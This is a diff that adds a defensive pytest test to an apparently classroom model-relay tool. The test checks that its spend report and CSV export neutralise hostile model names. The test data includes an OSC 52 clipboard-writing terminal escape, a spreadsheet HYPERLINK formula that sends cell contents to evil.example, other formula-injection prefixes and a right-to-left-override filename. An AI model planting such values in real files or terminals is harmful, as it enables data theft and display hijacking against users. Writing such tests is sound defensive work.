@@ -162,3 +162,37 @@ def test_report_by_seat_and_model_with_csv(upstream, tmp_path):
     assert second["requests"] == "2" and second["errors"] == "1"
     assert 0 < int(by[("seat-01", "google/gemma-3-4b-it")]["completion_tokens"]) <= 8  # max_tokens=8
     assert float(by[("seat-01", "google/gemma-3-12b-it")]["spent_usd"]) > 0
+
+
+#: Model names a learner sent (each refused with a 400, yet recorded): terminal escapes, formulas, a quote game.
+HOSTILE_MODELS = ["\x1b]52;c;aGVsbG8=\x07\x1b[2J\x1bc", '=HYPERLINK("http://evil.example/?d="&A1,"ok")', "+1+1",
+                  "-2+3", "@SUM(A1)", "\t=1+2", "\r=1+2", "\n=1+2", 'a",=1+2,"b', "\u202egnp.exe"]
+
+
+def test_the_report_and_its_csv_are_safe_to_open(tmp_path):
+    """A model name with escape codes once cleared the instructor's screen (and could write the clipboard with
+    OSC 52) when the report was printed; one starting with = landed in the CSV as a formula."""
+    from relay.ledger import Ledger
+
+    db = tmp_path / "room.db"
+    add_seats(db, 1, 1.0)
+    ledger = Ledger(db)
+    try:
+        for model in HOSTILE_MODELS:
+            ledger.record_refusal(1, model, 400, f"400: no price for {model!r}")
+    finally:
+        ledger.close()
+    out = tmp_path / "spend.csv"
+    printed = cli("report", "--csv", out, db=db).stdout
+    assert not [c for c in printed if not c.isprintable() and c != "\n"], "a control character was printed raw"
+    assert "\\x1b]52;c;aGVsbG8=\\x07\\x1b[2J" in printed and "\\u202egnp.exe" in printed
+    raw = out.read_bytes().decode("utf-8")
+    assert not [c for c in raw.replace("\r\n", "") if not c.isprintable()], "a control character in the CSV"
+    rows = list(csv.reader(out.open(encoding="utf-8", newline="")))
+    assert rows[0][:2] == ["seat", "model"] and len(rows) == 1 + len(HOSTILE_MODELS)
+    cells = [cell for row in rows[1:] for cell in row]
+    assert not [c for c in cells if c.startswith(("=", "+", "-", "@", "\t", "\r", "\n"))], cells
+    models = {row[1] for row in rows[1:]}
+    assert {"'=HYPERLINK(\"http://evil.example/?d=\"&A1,\"ok\")", "'+1+1", "'-2+3", "'@SUM(A1)", "\\x09=1+2",
+            "\\x0d=1+2", "\\x0a=1+2", 'a",=1+2,"b'} <= models  # each whole in one cell, none runnable
+    assert raw.splitlines()[1].startswith('"seat-01","')  # every cell quoted (OWASP: quotes cannot open a cell)
